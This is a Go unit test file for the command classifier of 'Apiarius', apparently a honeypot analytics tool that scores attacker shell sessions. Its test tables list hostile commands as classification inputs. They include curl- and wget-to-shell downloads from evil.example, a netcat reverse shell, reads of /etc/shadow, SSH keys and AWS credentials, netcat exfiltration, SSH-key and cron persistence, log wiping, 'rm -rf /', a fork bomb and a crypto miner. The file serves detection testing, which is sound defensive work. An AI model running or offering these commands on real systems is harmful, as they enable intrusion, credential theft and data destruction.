// Apiarius - Honeypot Telemetry Analytics and Session Risk Scoring
// Copyright 2026 P. Moreau (pmoreau84)
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/pmoreau84/apiarius

package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pmoreau84/apiarius/internal/models"
)

func TestNewCompilesAllRules(t *testing.T) {
	c, err := New()
	require.NoError(t, err)
	require.NotNil(t, c)
	assert.Equal(t, len(commandRules), len(c.Rules()))
}

func TestNewWithRulesRejectsBadPattern(t *testing.T) {
	_, err := NewWithRules([]Rule{
		{Pattern: `[unclosed`, Category: models.CategoryRecon, Severity: models.SeverityLow},
	})
	require.Error(t, err)
}

func TestClassifyTable(t *testing.T) {
	c, err := New()
	require.NoError(t, err)

	tests := []struct {
		name     string
		command  string
		category models.Category
		severity models.Severity
	}{
		{"uname", "uname -a", models.CategoryRecon, models.SeverityLow},
		{"whoami", "whoami", models.CategoryRecon, models.SeverityLow},
		{"passwd enumeration", "cat /etc/passwd", models.CategoryRecon, models.SeverityMedium},
		{"shadow wins over recon cat", "cat /etc/shadow", models.CategoryCredential, models.SeverityCritical},
		{"ssh key theft", "cat ~/.ssh/id_rsa", models.CategoryCredential, models.SeverityCritical},
		{"aws credentials", "cat /root/.aws/credentials", models.CategoryCredential, models.SeverityCritical},
		{"nmap scan", "nmap -sV 10.0.0.0/24", models.CategoryRecon, models.SeverityHigh},
		{"wget plain download outranks pipe rule", "wget http://evil.example/x.sh | sh", models.CategoryDownload, models.SeverityHigh},
		{"curl pipe to shell", "curl http://evil.example/x.sh | sh", models.CategoryDownload, models.SeverityCritical},
		{"netcat shell", "nc 1.2.3.4 4444 -e /bin/sh", models.CategoryDownload, models.SeverityCritical},
		{"chmod exec", "chmod +x ./bot", models.CategoryExecution, models.SeverityMedium},
		{"chmod 777", "chmod 777 /tmp/x", models.CategoryExecution, models.SeverityHigh},
		{"python one-liner", "python -c 'import socket'", models.CategoryExecution, models.SeverityMedium},
		{"ssh key injection", "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", models.CategoryPersist, models.SeverityCritical},
		{"user creation", "useradd -m backdoor", models.CategoryPersist, models.SeverityCritical},
		{"cron persistence", "echo '* * * * * /tmp/x' >> /etc/cron.d/x", models.CategoryPersist, models.SeverityCritical},
		{"broad sudo rule wins over root shell rule", "sudo -i", models.CategoryPrivesc, models.SeverityMedium},
		{"su to root", "su root", models.CategoryPrivesc, models.SeverityHigh},
		{"ld preload", "LD_PRELOAD=/tmp/evil.so ls", models.CategoryPrivesc, models.SeverityCritical},
		{"history recon rule wins over clear rule", "history -c", models.CategoryRecon, models.SeverityLow},
		{"histfile disable", "unset HISTFILE", models.CategoryEvasion, models.SeverityHigh},
		{"log wipe", "rm -rf /var/log", models.CategoryEvasion, models.SeverityCritical},
		{"lateral ssh", "ssh root@10.0.0.5", models.CategoryLateral, models.SeverityHigh},
		{"exfil pipe", "cat /tmp/loot.txt | nc 1.2.3.4 9999", models.CategoryExfil, models.SeverityHigh},
		{"system wipe", "rm -rf /", models.CategoryImpact, models.SeverityCritical},
		{"fork bomb", ":(){ :|:& };:", models.CategoryImpact, models.SeverityCritical},
		{"miner", "./xmrig -o pool.minexmr.com:4444", models.CategoryImpact, models.SeverityHigh},
		{"benign ls", "ls", models.CategoryBenign, models.SeverityInfo},
		{"benign cd", "cd /tmp", models.CategoryBenign, models.SeverityInfo},
		{"benign echo", "echo hello", models.CategoryBenign, models.SeverityInfo},
		{"benign exit", "exit", models.CategoryBenign, models.SeverityInfo},
		{"unclassified", "frobnicate --quux", models.CategoryUnknown, models.SeverityInfo},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := c.Classify(tt.command)
			assert.Equal(t, tt.category, a.Category, "category for %q", tt.command)
			assert.Equal(t, tt.severity, a.Severity, "severity for %q", tt.command)
		})
	}
}

func TestClassifyEmptyCommand(t *testing.T) {
	c, err := New()
	require.NoError(t, err)

	a := c.Classify("   ")
	assert.Equal(t, models.CategoryUnknown, a.Category)
	assert.Equal(t, models.SeverityInfo, a.Severity)
	assert.Equal(t, "Empty command", a.Description)
	assert.Empty(t, a.Tags)
}

func TestClassifyTrimsWhitespace(t *testing.T) {
	c, err := New()
	require.NoError(t, err)

	a := c.Classify("  whoami  ")
	assert.Equal(t, "whoami", a.Command)
	assert.Equal(t, models.CategoryRecon, a.Category)
}

func TestClassifyCaseInsensitive(t *testing.T) {
	c, err := New()
	require.NoError(t, err)

	a := c.Classify("WGET HTTP://EVIL.EXAMPLE/X")
	assert.Equal(t, models.CategoryDownload, a.Category)
	assert.Equal(t, models.SeverityHigh, a.Severity)
}

func TestClassifyDeterministic(t *testing.T) {
	c, err := New()
	require.NoError(t, err)

	first := c.Classify("cat /etc/shadow | nc 1.2.3.4 53")
	for i := 0; i < 10; i++ {
		again := c.Classify("cat /etc/shadow | nc 1.2.3.4 53")
		assert.Equal(t, first, again)
	}
}

func TestExtractTags(t *testing.T) {
	tests := []struct {
		name    string
		command string
		tags    []string
	}{
		{"url and pipe", "curl http://evil.example/x.sh | sh", []string{"url", "piped"}},
		{"ip", "ping 192.168.1.1", []string{"ip"}},
		{"redirect", "echo x >> /etc/rc.local", []string{"redirect"}},
		{"variable", "echo $PATH", []string{"variable"}},
		{"background", "./miner &", []string{"background"}},
		{"everything", "curl http://1.2.3.4/x | sh > /dev/null $HOME &", []string{"url", "ip", "piped", "redirect", "variable", "background"}},
		{"none", "whoami", nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.tags, extractTags(tt.command))
		})
	}
}
